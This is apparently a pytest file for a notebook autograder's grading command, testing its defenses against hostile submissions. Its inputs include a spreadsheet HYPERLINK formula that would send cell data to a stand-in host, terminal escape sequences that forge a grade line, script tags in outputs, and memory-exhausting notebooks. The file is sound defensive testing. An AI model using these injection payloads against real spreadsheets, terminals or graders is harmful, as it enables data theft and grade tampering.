"""The grading command's own pieces, fed what a hostile or careless submission puts in front of them."""

from __future__ import annotations

import csv
from pathlib import Path

import nbformat
import pytest

from billcode.amounts import AmountError, parse_amount
from billcode.instructor.grade import autograde
from billcode.instructor.grade.autograde import Outcome, read_events, shown, take_in, write_report
from billcode.instructor.grade.progress import Progress
from billcode.instructor.safe_text import safe_row, safe_text
from billcode.instructor.report.feedback import leaks
from billcode.instructor.grade.grading_steps import report, safe_output, take_events
from billcode.instructor.variants import save_class_params
from billcode.quiz.bank import load_bank


def test_report_events_come_only_from_the_course_steps_never_from_a_log():
    """The grading report reads events the course's steps recorded in the grading process: a line in nbgrader's log
    (which a student's cell metadata can write, split at any line break str.splitlines knows) is never read."""
    from types import SimpleNamespace

    log = SimpleNamespace(info=lambda *a: None, warning=lambda *a: None)
    mine = {"nbgrader": {"assignment": "01_overview", "student": "sam"}}
    other = {"nbgrader": {"assignment": "01_overview", "student": "kim"}}
    take_events("01_overview", "sam")
    report(log, other, event="run", isolated=False, note="kim's note")  # another submission's: never sam's
    report(log, mine, event="run", isolated=True, ending="finished", timeouts=2, cell_timeout=30)
    outcome = Outcome("01_overview", "sam")
    read_events(take_events("01_overview", "sam"), outcome)
    assert outcome.isolated is True
    assert outcome.problems == ["2 cell(s) ran past the 30 s time limit and were interrupted"]
    assert take_events("01_overview", "kim") == []  # taken events are gone, the rest dropped with them
    for _ in range(3):  # nobody takes them (the formgrader's own autograde): one submission's at most are kept
        report(log, other, event="run")
        report(log, mine, event="run")
    assert len(take_events("01_overview", "sam")) == 1
    assert not hasattr(autograde, "read_log")


@pytest.mark.parametrize("char", ["\n", "\r", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029",
                                  "\x1b", "\x00", "\u202e", "\ud800"])
def test_safe_text_shows_every_line_break_and_control_escaped(char):
    """Every character str.splitlines splits at, ESC, NUL, a bidirectional override and a lone surrogate."""
    shown = safe_text(f"a{char}b")
    assert len(shown.splitlines()) == 1 and char not in shown and shown.startswith("a\\") and shown.endswith("b")
    assert all(c.isprintable() for c in shown)


def test_safe_text_keeps_formulas_as_text_and_is_stable():
    forged = '=HYPERLINK("http://x.example/?"&A1,"Grading note: click to see details")'
    for start in ("=", "+", "-", "@", "  =", "\uff1d"):
        assert safe_text(start + "1+1").startswith("'"), start
    for start in ("\t", "\r"):  # escaped, the cell starts with a backslash: text to a spreadsheet
        assert safe_text(start + "=1+1").startswith("\\"), start
    assert safe_text(forged) == "'" + forged
    title = "\x1b]0;graded 9/9\x07\x1b[2K\r[1/1] 01_overview sam: graded 9/9"
    assert safe_text(title) == "\\x1b]0;graded 9/9\\x07\\x1b[2K\\r[1/1] 01_overview sam: graded 9/9"
    for text in (forged, title, "café, naïve", "plain"):
        assert safe_text(safe_text(text)) == safe_text(text)
    assert safe_text("café, naïve 9/9") == "café, naïve 9/9"
    assert safe_row(["-x", 3, 1.5, True]) == ["'-x", 3, 1.5, "True"]


def test_the_report_csv_and_progress_lines_show_student_text_escaped(tmp_path):
    """A student id and problems holding ESC, CR, U+2028 and a formula reach the CSV and the terminal escaped."""
    import io

    student = "\x1b[2J\x1b]0;pwned\x07sam"
    outcome = Outcome("01_overview", student, problems=["=HYPERLINK(\"http://x\",\"note\")", "a\rb\u2028c"])
    path = write_report(tmp_path, [outcome])
    raw = path.read_text(encoding="utf-8")
    assert "\x1b" not in raw and "\u2028" not in raw and "\r" not in raw.replace("\r\n", "\n")
    row = next(csv.DictReader(path.open(encoding="utf-8", newline="")))
    assert row["student"] == safe_text(student) and row["problems"].startswith("'=HYPERLINK")
    stream = io.StringIO()
    Progress(1, 1, stream=stream, live=False).finished(outcome)
    line = stream.getvalue()
    assert "\x1b" not in line and "\u2028" not in line and len(line.splitlines()) == 2  # its line and the bar
    assert line.splitlines()[0].startswith("[1/1] 01_overview \\x1b[2J")


def test_odd_file_names_and_sizes_never_stop_the_report(tmp_path):
    folder = tmp_path / "submitted" / "sam" / "01_overview"
    folder.mkdir(parents=True)
    nbformat.write(nbformat.v4.new_notebook(), folder / "01_overview.ipynb")
    (folder / "01_overview_answers.json").write_bytes(b" " * 2_000_000)  # too large to be answers
    (folder / "timestamp.txt").write_bytes(b"9" * 5000)
    (folder / b"\xff.txt".decode("utf-8", "surrogateescape")).write_text("x")
    outcome = Outcome("01_overview", "sam")
    assert take_in(tmp_path, outcome) is None
    taken = sorted(p.name for p in (tmp_path / ".intake" / "sam" / "01_overview").iterdir())
    assert taken == ["01_overview.ipynb"]
    listed = "; ".join(outcome.problems)
    assert "\\udcff.txt" in listed and "01_overview_answers.json" in listed and "timestamp.txt" in listed
    report = write_report(tmp_path, [outcome])
    rows = list(csv.DictReader(report.open(encoding="utf-8")))
    assert rows[0]["student"] == "sam" and "\\udcff.txt" in rows[0]["problems"]
    assert shown("caf\udce9") == "caf\\udce9"


def test_huge_numbers_are_a_learner_message_not_a_crash():
    with pytest.raises(AmountError, match="too large"):
        parse_amount(10**400, "USD")


def test_feedback_scan_sees_through_escaping_and_highlighting():
    line = 'expected = cycle.loc[cycle["coder"] != "none", "name"].tolist()'
    escaped = line.replace('"', "&#34;").replace("!=", "<span class='o'>!=</span>")
    assert leaks(f"<pre>{escaped}</pre>", [line]) == [line]
    assert leaks("<p>nothing to see</p>", [line]) == []


def test_run_outputs_reach_the_instructor_without_html_or_script():
    html = {"output_type": "display_data", "metadata": {"x": 1},
            "data": {"text/html": "<script>steal()</script>", "application/javascript": "steal()", "text/plain": "ok"}}
    assert safe_output(html) == {"output_type": "display_data", "metadata": {}, "data": {"text/plain": "ok"}}
    only_html = safe_output({"output_type": "execute_result", "data": {"text/html": "<b>x</b>"}, "metadata": {}})
    assert list(only_html["data"]) == ["text/plain"]


def test_a_short_class_secret_is_refused(tmp_path):
    (tmp_path / "class_secret.txt").write_text("abc")
    with pytest.raises(ValueError, match="at least 12"):
        save_class_params(tmp_path, load_bank("01_overview"))


def test_by_default_one_grading_process_per_usable_core_plus_one(monkeypatch):
    monkeypatch.setattr(autograde.os, "sched_getaffinity", lambda pid: {0, 1}, raising=False)
    assert autograde.usable_cores() == 2 and autograde.default_jobs() == 3


def test_a_submission_without_its_answers_file_is_reported(tmp_path):
    """The likeliest mistake (handing in the notebook alone) scores 0 on the quiz: the report says why."""
    folder = tmp_path / "submitted" / "ann" / "01_overview"
    folder.mkdir(parents=True)
    nbformat.write(nbformat.v4.new_notebook(), folder / "01_overview.ipynb")
    outcome = Outcome("01_overview", "ann")
    assert take_in(tmp_path, outcome) is None
    assert outcome.problems == ["no readable 01_overview_answers.json was submitted: every quiz question scores 0 "
                                "(it is handed in next to the notebook)"]
    (folder / "01_overview_answers.json").write_text('{"format": 1, "graded": {}}')
    again = Outcome("01_overview", "ann")
    assert take_in(tmp_path, again) is None and again.problems == []


def test_a_huge_answer_cell_is_scanned_not_parsed_by_the_grader():
    """Parsing a 9 MB answer cell cost the grading process 8.6 GB (hostile review): above the limit it is read as
    text, in a few MB, and still names the course modules it imports."""
    import tracemalloc
    from types import SimpleNamespace

    from billcode.instructor.grade.grading_steps import PARSE_LIMIT, course_internals

    small = SimpleNamespace(source="from billcode.billing.x12 import validate_x12\nx = 1")
    assert course_internals(small) == ["billcode.billing.x12"]
    huge = SimpleNamespace(source="import billcode.careers.costs\nx = [" + "1," * 3_000_000 + "]")
    assert len(huge.source) > PARSE_LIMIT
    tracemalloc.start()
    try:
        found = course_internals(huge)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert found == ["billcode.careers.costs"] and peak < 50 * 1024**2, peak


@pytest.mark.parametrize("text", [b"2026-11-20 12:00:00.000000 UTC", b"  2026-11-20 12:00:00 UTC\n", b"", b" \n ",
                                  b"2026-11-20 12:00:00.000000 UTC" + b" " * 100 + b"x", b"not a time",
                                  b"9" * 40, b"2026-11-20 12:00:00 UTC\xff", b"\xef\xbb\xbf2026-11-20 12:00:00 UTC"])
def test_timestamp_is_read_whole_exactly_as_nbgrader_reads_it(tmp_path, text):
    """The intake keeps timestamp.txt only when nbgrader 0.9.6 can read it (whole, as text), so nbgrader never
    fails a submission on it: a valid time in the first 100 bytes and garbage after them is refused whole."""
    from nbgrader.coursedir import CourseDirectory

    (tmp_path / "timestamp.txt").write_bytes(text)
    try:
        CourseDirectory().get_existing_timestamp(str(tmp_path))
        nbgrader_reads_it = True
    except Exception:  # ValueError becomes self.fail(), which 0.9.6's CourseDirectory does not have
        nbgrader_reads_it = False
    assert autograde.readable_timestamp(tmp_path / "timestamp.txt") is nbgrader_reads_it


def peak_growth_mb(task) -> int:
    """How far this process's resident memory rises above where it starts while task() runs (in a forked child)."""
    import os

    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:  # the child: reset the high-water mark, run, report the rise
        try:
            Path("/proc/self/clear_refs").write_text("5")
            status = lambda key: int(next(l.split()[1] for l in Path("/proc/self/status").read_text().splitlines()
                                          if l.startswith(key)))
            start = status("VmRSS:")
            task()
            os.write(write, str((status("VmHWM:") - start) // 1024).encode())
        finally:
            os._exit(0)
    os.close(write)
    with os.fdopen(read) as handle:
        reported = handle.read()
    os.waitpid(pid, 0)
    assert reported, "the child did not report"
    return int(reported)


def test_saved_outputs_never_reach_nbformat(tmp_path, monkeypatch):
    """400,000 tiny saved outputs (20 MB): the intake drops them while reading plain JSON (about 160 MB and 1 s here;
    through nbformat's reading and validation they cost 380 MB and over 20 s), and the graded copy has none."""
    import json

    folder = tmp_path / "submitted" / "sam" / "01_overview"
    folder.mkdir(parents=True)
    nb = json.loads((Path(__file__).parents[1] / "course" / "01_overview.ipynb").read_text())
    code = next(c for c in nb["cells"] if c["cell_type"] == "code")
    code["outputs"] = ["@OUTPUTS@"]
    tiny = '{"output_type":"stream","name":"stdout","text":""}'
    text = json.dumps(nb, separators=(",", ":")).replace('"@OUTPUTS@"', ",".join([tiny] * 400_000))
    (folder / "01_overview.ipynb").write_text(text)
    assert (folder / "01_overview.ipynb").stat().st_size < autograde.MAX_NOTEBOOK_BYTES
    assert peak_growth_mb(lambda: take_in(tmp_path, Outcome("01_overview", "sam"))) < 300
    seen = []  # every notebook nbformat is handed: how many outputs it holds
    for name in ("reads", "from_dict", "validate"):
        real = getattr(nbformat, name)
        monkeypatch.setattr(nbformat, name, lambda nb, *a, _real=real, **k: (seen.append(
            str(nb).count("output_type") if isinstance(nb, str) else sum(len(c.get("outputs", [])) for c in nb["cells"])),
            _real(nb, *a, **k))[1])
    assert take_in(tmp_path, Outcome("01_overview", "sam")) is None
    assert seen and max(seen) == 0, seen
    graded = nbformat.read(tmp_path / ".intake" / "sam" / "01_overview" / "01_overview.ipynb", as_version=4)
    assert sum(len(c.get("outputs", [])) for c in graded.cells) == 0
    assert [c.source for c in graded.cells] == [c["source"] if isinstance(c["source"], str) else "".join(c["source"])
                                                 for c in nb["cells"]]


def test_a_notebook_of_too_many_cells_is_refused_with_the_reason(tmp_path):
    folder = tmp_path / "submitted" / "sam" / "01_overview"
    folder.mkdir(parents=True)
    cells = [nbformat.v4.new_raw_cell("") for _ in range(autograde.MAX_CELLS + 1)]
    nbformat.write(nbformat.v4.new_notebook(cells=cells), folder / "01_overview.ipynb")
    assert take_in(tmp_path, Outcome("01_overview", "sam")) == (
        f"01_overview.ipynb has {autograde.MAX_CELLS + 1:,} cells, over the limit of {autograde.MAX_CELLS:,}")
